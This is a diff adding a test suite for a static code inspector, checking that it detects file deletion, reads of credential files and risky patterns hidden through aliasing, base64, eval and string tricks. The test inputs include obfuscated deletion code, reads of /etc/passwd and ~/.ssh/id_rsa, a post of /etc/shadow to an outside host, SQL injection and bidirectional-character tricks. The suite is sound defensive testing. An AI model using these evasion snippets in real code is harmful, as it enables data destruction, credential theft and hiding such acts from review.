@@ -1,0 +1,182 @@
+import fc from 'fast-check'
+import { beforeAll, describe, expect, it } from 'vitest'
+import { type Language, languages } from '../contract/run.ts'
+import { prepare } from './front-ends.ts'
+import { inspectProgram } from './inspect.ts'
+
+beforeAll(async () => {
+  await Promise.all(languages.map(prepare))
+})
+
+const rulesIn = (code: string, language: Language = 'python'): string[] =>
+  inspectProgram(code, language).violations.map(({ rule }) => rule)
+const deleted = (code: string, language: Language = 'python') =>
+  inspectProgram(code, language).impact.filesDeleted.map(({ target }) => target)
+
+describe('names', () => {
+  it.each([
+    ['an alias', "from os import remove as r\nr('a')"],
+    ['getattr with a name put together', "import os\ngetattr(os, 're' + 'move')('a')"],
+    ['__import__', "__import__('os').remove('a')"],
+    ['importlib', "import importlib\nimportlib.import_module('os').remove('a')"],
+    ['a star import', "from os import *\nremove('a')"],
+    ['the dictionary of a module', "import os\nos.__dict__['remove']('a')"],
+    ['sys.modules', "import sys\nsys.modules['os'].remove('a')"],
+    ['a variable', "import os\nf = os.remove\nf('a')"],
+    ['a table', "import os\ntable = {'x': os.remove}\ntable['x']('a')"],
+    ['a function of the program', "import os\ndef go(p):\n    os.remove(p)\ngo('a')"],
+    [
+      'a method and a field',
+      "import os\nclass A:\n    def __init__(self, p):\n        self.p = p\n    def go(self):\n        os.remove(self.p)\nA('a').go()",
+    ],
+    ['a thread', "import os, threading\nthreading.Thread(target=os.remove, args=('a',)).start()"],
+    ['map', "import os\nlist(map(os.remove, ['a']))"],
+    ['a partial', "import os, functools\nfunctools.partial(os.remove, 'a')()"],
+    [
+      'a function that is declared below',
+      "def main():\n    drop('a')\ndef drop(p):\n    import os\n    os.remove(p)\nmain()",
+    ],
+    ['exec of a text', 'exec("import os; os.remove(\'a\')")'],
+    ['base64', "import base64\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5yZW1vdmUoJ2EnKQ=='))"],
+    ['a list of words', "import subprocess\nsubprocess.run(['rm', 'a'])"],
+    ['a shell', "import subprocess\nsubprocess.run('rm a', shell=True)"],
+    ['a shell in a shell', `import os\nos.system("bash -c 'rm a'")`],
+  ])('are seen through %s', (_, code) => expect(deleted(code)).toContain('a'))
+
+  it.each([
+    ['destructuring', "const { rmSync: r } = require('fs'); r('a')"],
+    ['a computed member', "const fs = require('fs'); fs['rm' + 'Sync']('a')"],
+    ['a default import', "import fs from 'node:fs'\nfs.rmSync('a')"],
+    ['a dynamic import', "const fs = await import('fs'); fs.rmSync('a')"],
+    ['a promise of a module', "import('fs').then(fs => fs.rmSync('a'))"],
+    ['globalThis', "globalThis['require']('fs').rmSync('a')"],
+    ['eval in a roundabout way', `globalThis['ev' + 'al']("require('fs').rmSync('a')")`],
+    ['call and apply', "require('fs').rmSync.call(null, 'a')"],
+    ['a function from text', `new Function("require('fs').rmSync('a')")()`],
+    ['an array of words', "const w = ['rmSync', 'fs']; require(w[1])[w[0]]('a')"],
+    ['a callback', "['a'].forEach(f => require('fs').rmSync(f))"],
+  ])('are seen through %s in JavaScript', (_, code) => expect(deleted(code, 'javascript')).toContain('a'))
+})
+
+describe('values', () => {
+  it.each([
+    ["'/usr/' + '../etc/passwd'", '/etc/passwd'],
+    ["os.path.join('/usr', '../etc/passwd')", '/etc/passwd'],
+    ["'{}/{}'.format('/etc', 'passwd')", '/etc/passwd'],
+    ["'%s/passwd' % '/etc'", '/etc/passwd'],
+    ['f\'/etc/{"pass" + "wd"}\'', '/etc/passwd'],
+    ["'dwssap/cte/'[::-1]", '/etc/passwd'],
+    ["''.join(chr(c) for c in [47, 101, 116, 99])", '/etc'],
+    ["bytes.fromhex('2f657463').decode()", '/etc'],
+    ["Path('/etc') / 'passwd'", '/etc/passwd'],
+    ["os.path.expanduser('~/.ssh/id_rsa')", '~/.ssh/id_rsa'],
+    ["os.environ['HOME'] + '/.netrc'", '~/.netrc'],
+  ])('fold %s to %s', (expression, path) => {
+    const { impact } = inspectProgram(`import os\nfrom pathlib import Path\nopen(${expression})`, 'python')
+    expect(impact.filesRead.map(({ target }) => target)).toEqual([path])
+  })
+
+  it('are all considered when a branch decides', () => {
+    expect(deleted("import os\nif x:\n    p = 'a'\nelse:\n    p = 'b'\nos.remove(p)").sort()).toEqual(['a', 'b'])
+  })
+
+  it('that are not known are listed as unknown, with the words of the program', () => {
+    expect(inspectProgram('import os\nos.remove(path)', 'python').impact.filesDeleted).toEqual([
+      { target: null, expression: 'os.remove(path)', lines: [2] },
+    ])
+  })
+
+  it('carry where they come from through variables and calls', () => {
+    expect(
+      rulesIn(
+        "from flask import request\nname = request.args.get('n').strip()\nq = 'SELECT * FROM t WHERE n = ' + name\ncur.execute(q)",
+      ),
+    ).toContain('injection/sql')
+    expect(
+      rulesIn("data = open('/etc/shadow').read()\nimport requests\nrequests.post('https://x.org', data=data.upper())"),
+    ).toContain('network/secret-leaves')
+  })
+})
+
+describe('noise', () => {
+  it.each([
+    ['SQL words in a comment', '# SELECT * FROM users WHERE x = \nprint(1)'],
+    ['a path in a docstring', '"""see ../../../etc/passwd"""\nprint(1)'],
+    ['eval of a data frame', "import pandas as pd\ndf = pd.DataFrame()\ndf.eval('a + b')"],
+    ['a function of its own named exec', 'def exec(x):\n    return x\nexec(y)'],
+    ['a data file', "import pandas as pd\npd.read_csv('data.csv').to_csv('out.csv')"],
+  ])('%s does not raise the level', (_, code) => expect(inspectProgram(code, 'python').risk).toBe('low'))
+})
+
+describe('the surface', () => {
+  it.each([
+    ['bidirectional controls', 'x = 1 # \u202e } if admin', 'surface/bidirectional'],
+    ['zero-width characters', 'pass\u200bword = 1', 'surface/invisible'],
+    ['letters that look alike', 'p\u0430yload = 1', 'surface/look-alike'],
+    ['a text written in escapes', `x = "${'\\x68\\x65\\x6c\\x6c\\x6f'.repeat(8)}"`, 'surface/encoded-text'],
+    ['too many decisions', `def f(x):\n${'    if x: y = 1\n'.repeat(60)}`, 'surface/complexity'],
+    ['a broken line', 'x = (1\nimport os', 'surface/unparseable'],
+  ])('shows %s', (_, code, rule) => expect(rulesIn(code)).toContain(rule))
+
+  it('counts the decisions of the worst function', () => {
+    expect(
+      inspectProgram('def f(x):\n    if x and y:\n        return 1\n    for a in b:\n        pass\n', 'python')
+        .complexity,
+    ).toBe(4)
+  })
+
+  it('leaves emoji, accents and other alphabets alone', () => {
+    expect(rulesIn("print('naïve café 👩‍👩‍👧 Привет Ελλάδα')").filter(rule => rule.startsWith('surface/'))).toEqual([])
+  })
+})
+
+describe('any text in any language', () => {
+  it('is answered within the contract', () => {
+    const pieces = fc.constantFrom(
+      'import os',
+      '(',
+      ')',
+      '{',
+      '}',
+      "'",
+      '"',
+      '`',
+      '$(',
+      'eval',
+      'def f():',
+      '=>',
+      '\n',
+      '    ',
+      'x = ',
+      '.a',
+      '[',
+      ']',
+      ':',
+      ';',
+      '\\',
+      '#',
+      '//',
+      '/*',
+      'class A',
+      'f"{',
+      '${',
+      '<<EOF',
+      '\u202e',
+      '\ud800',
+    )
+    fc.assert(
+      fc.property(
+        fc.array(fc.oneof(pieces, fc.string()), { maxLength: 60 }),
+        fc.constantFrom(...languages),
+        (parts, language) => {
+          const code = parts.join('')
+          const { violations, complete, risk } = inspectProgram(code, language)
+          const lines = code.split('\n').length
+          for (const { line, column } of violations) expect(line >= 1 && line <= lines && column >= 1).toBe(true)
+          if (!complete) expect(risk).not.toBe('low')
+        },
+      ),
+      { numRuns: 300 },
+    )
+  })
+})
